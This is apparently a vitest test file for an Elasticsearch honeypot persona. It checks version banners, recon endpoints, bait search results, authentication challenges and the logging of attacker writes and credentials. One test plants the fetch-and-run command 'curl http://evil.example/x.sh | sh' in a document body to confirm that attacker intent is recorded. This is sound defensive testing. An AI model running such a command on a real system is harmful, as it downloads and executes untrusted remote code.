// Elasticsearch persona against real clients: curl over the REST API (root banner consistent with the
// build, _cat tables, cluster/nodes recon, bait _search, X-Pack 401 and the unlocking password,
// writes logged with their body) and nmap -sV naming the product, version and Lucene build.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hasBinary, nmapServiceLine, runCli, serveTemplate, type Served } from '../_testing';
import { elasticsearchTemplate, type ElasticsearchConfig } from './index';
import { ES_BUILDS } from './versions';

const curl = async (port: number, path: string, extra: string[] = []): Promise<{ head: string; body: string }> => {
  const r = await runCli('curl', ['-s', '-i', '--max-time', '30', ...extra, `http://127.0.0.1:${port}${path}`]);
  const at = r.stdout.indexOf('\r\n\r\n');
  return { head: r.stdout.slice(0, at), body: r.stdout.slice(at + 4) };
};

describe.skipIf(!hasBinary('curl'))('elasticsearch 7.10.2 without security (curl)', () => {
  let s: Served<ElasticsearchConfig>;
  beforeAll(async () => {
    s = await serveTemplate(elasticsearchTemplate, { config: { version: '7.10.2', security: 'false', cluster_name: 'prod-search' } });
  });
  afterAll(() => s.close());

  it('answers GET / with the build of 7.10.2 in ES pretty JSON and Netty headers', async () => {
    const { head, body } = await curl(s.port, '/');
    expect(head).toMatch(/^HTTP\/1\.1 200 OK\r\ncontent-type: application\/json; charset=UTF-8\r\ncontent-length: \d+$/);
    const root = JSON.parse(body) as { cluster_name: string; cluster_uuid: string; version: Record<string, string>; tagline: string };
    const build = ES_BUILDS.find((b) => b.number === '7.10.2');
    expect(root.cluster_name).toBe('prod-search');
    expect(root.cluster_uuid).toMatch(/^[A-Za-z0-9_-]{22}$/);
    expect(root.version.build_hash).toBe(build?.hash);
    expect(root.version.lucene_version).toBe('8.7.0');
    expect(root.tagline).toBe('You Know, for Search');
    expect(body).toContain('"number" : "7.10.2"');
  });

  it('serves _cat, _cluster and _nodes from the persona and logs each under its DECNET MSGID', async () => {
    const cat = await curl(s.port, '/_cat/indices?v');
    const lines = cat.body.trim().split('\n');
    expect(lines[0]).toMatch(/^health\s+status\s+index\s+uuid\s+pri\s+rep\s+docs\.count/);
    expect(lines.length).toBeGreaterThan(3);
    const health = JSON.parse((await curl(s.port, '/_cluster/health')).body) as { status: string; cluster_name: string };
    expect(health).toMatchObject({ status: 'yellow', cluster_name: 'prod-search' });
    const nodes = JSON.parse((await curl(s.port, '/_nodes')).body) as { nodes: Record<string, { version: string; os: { version: string } }> };
    const node = Object.values(nodes.nodes)[0];
    expect(node?.version).toBe('7.10.2');
    expect(node?.os.version).toBe(s.contexts[0]?.persona.shell.kernelRelease);
    const msgids = s.events().map((e) => e.msgid);
    expect(msgids).toEqual(expect.arrayContaining(['root_probe', 'cat_api', 'cluster_recon', 'nodes_recon']));
  });

  it('returns bait hits from a named index and ES errors for unknown ones', async () => {
    const cat = (await curl(s.port, '/_cat/indices?format=json')).body;
    const first = (JSON.parse(cat) as Array<{ index: string }>)[0]?.index ?? '';
    const res = JSON.parse((await curl(s.port, `/${first}/_search?size=3`)).body) as { hits: { hits: Array<{ _index: string; _type: string; _source: object }> } };
    expect(res.hits.hits).toHaveLength(3);
    expect(res.hits.hits.every((h) => h._index === first && h._type === '_doc')).toBe(true);
    const again = JSON.parse((await curl(s.port, `/${first}/_search?size=3`)).body) as typeof res;
    expect(again.hits.hits).toEqual(res.hits.hits);
    const missing = await curl(s.port, '/no_such_index/_search');
    expect(missing.head).toMatch(/^HTTP\/1\.1 404 Not Found/);
    expect(missing.body).toContain('"type":"index_not_found_exception","reason":"no such index [no_such_index]"');
    expect((await curl(s.port, '/_nope')).body).toBe('{"error":"no handler found for uri [/_nope] and method [GET]"}');
  });

  it('logs writes as intent with their body and Basic credentials as plaintext', async () => {
    const doc = JSON.stringify({ cmd: 'curl http://evil.example/x.sh | sh', pad: 'y'.repeat(2000) });
    const put = await curl(s.port, '/pwned/_doc/1', ['-X', 'PUT', '-u', 'admin:hunter2', '-H', 'Content-Type: application/json', '--data-binary', doc]);
    expect(put.head).toMatch(/^HTTP\/1\.1 201 Created/);
    const del = await curl(s.port, '/pwned', ['-X', 'DELETE']);
    expect(del.head).toMatch(/^HTTP\/1\.1 404/);
    const ev = s.events().find((e) => e.msgid === 'put_request');
    expect(ev?.fields.body_preview).toContain('evil.example');
    expect(ev?.fields.body_size).toBe(doc.length);
    expect(ev?.fields.body_sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(s.contexts.flatMap((c) => c.captures).some((c) => Buffer.from(c.data).toString() === doc)).toBe(true);
    expect(s.events().some((e) => e.msgid === 'delete_request' && e.fields.path === '/pwned')).toBe(true);
    const auth = s.events().find((e) => e.msgid === 'auth_attempt');
    expect(auth?.fields).toMatchObject({ principal: 'admin', secret_kind: 'plaintext', secret_printable: 'hunter2' });
  });

  it('names the product, version and Lucene build in nmap -sV', async () => {
    if (!hasBinary('nmap')) return;
    const line = await nmapServiceLine(s.port);
    expect(line).toContain('Elasticsearch REST API 7.10.2');
    expect(line).toContain('Lucene 8.7.0');
  }, 90_000);
});

describe.skipIf(!hasBinary('curl'))('elasticsearch with security (curl)', () => {
  let s8: Served<ElasticsearchConfig>;
  let s7: Served<ElasticsearchConfig>;
  beforeAll(async () => {
    s8 = await serveTemplate(elasticsearchTemplate, { config: { version: '8.12.2', security: 'true', password: 'S3cure-elastic' } });
    s7 = await serveTemplate(elasticsearchTemplate, { config: { version: '7.6.2', security: 'true' } });
  });
  afterAll(async () => {
    await s8.close();
    await s7.close();
  });

  it('challenges anonymous requests exactly as 8.x does, without the product header', async () => {
    const { head, body } = await curl(s8.port, '/_cat/indices');
    expect(head.split('\r\n')).toEqual(['HTTP/1.1 401 Unauthorized', 'WWW-Authenticate: Basic realm="security" charset="UTF-8"', 'WWW-Authenticate: Bearer realm="security"', 'WWW-Authenticate: ApiKey', 'content-type: application/json', expect.stringMatching(/^content-length: \d+$/)]);
    expect(body).toContain('"reason":"missing authentication credentials for REST request [/_cat/indices]"');
    expect(s8.events().some((e) => e.msgid === 'cat_api' && e.fields.status === 401)).toBe(true);
  });

  it('refuses wrong credentials, captures Bearer and ApiKey secrets, and unlocks with the configured password', async () => {
    const bad = await curl(s8.port, '/', ['-u', 'elastic:changeme']);
    expect(bad.body).toContain('unable to authenticate user [elastic] for REST request [/]');
    await curl(s8.port, '/_security/_authenticate', ['-H', 'Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.tok']);
    await curl(s8.port, '/', ['-H', `Authorization: ApiKey ${Buffer.from('VuaCfGcBCdbkQm-e5aOx:ui2lp2axTNmsyakw9tvNnw').toString('base64')}`]);
    const good = await curl(s8.port, '/', ['-u', 'elastic:S3cure-elastic']);
    expect(good.head).toMatch(/^HTTP\/1\.1 200 OK\r\nX-elastic-product: Elasticsearch\r\ncontent-type: application\/json\r\n/);
    expect(good.body).toContain('"number" : "8.12.2"');
    const auths = s8.events().filter((e) => e.msgid === 'auth_attempt').map((e) => e.fields);
    expect(auths).toEqual(expect.arrayContaining([
      expect.objectContaining({ principal: 'elastic', secret_printable: 'changeme', secret_kind: 'plaintext', outcome: 'failure' }),
      expect.objectContaining({ secret_printable: 'eyJhbGciOiJIUzI1NiJ9.tok', secret_kind: 'http_bearer', auth_scheme: 'bearer', outcome: 'failure' }),
      expect.objectContaining({ principal: 'VuaCfGcBCdbkQm-e5aOx', secret_kind: 'http_bearer', auth_scheme: 'apikey' }),
      expect.objectContaining({ principal: 'elastic', secret_printable: 'S3cure-elastic', outcome: 'success' }),
    ]));
    expect(s8.events().some((e) => e.msgid === 'security_probe')).toBe(true);
  });

  it('uses 7.x wording and a single Basic challenge on 7.6.2, which nmap names', async () => {
    const { head, body } = await curl(s7.port, '/');
    expect(head).toContain('WWW-Authenticate: Basic realm="security" charset="UTF-8"\r\ncontent-type: application/json; charset=UTF-8');
    expect(body).toContain('missing authentication token for REST request [/]');
    if (!hasBinary('nmap')) return;
    expect(await nmapServiceLine(s7.port)).toContain('Elasticsearch REST API');
  }, 90_000);
});
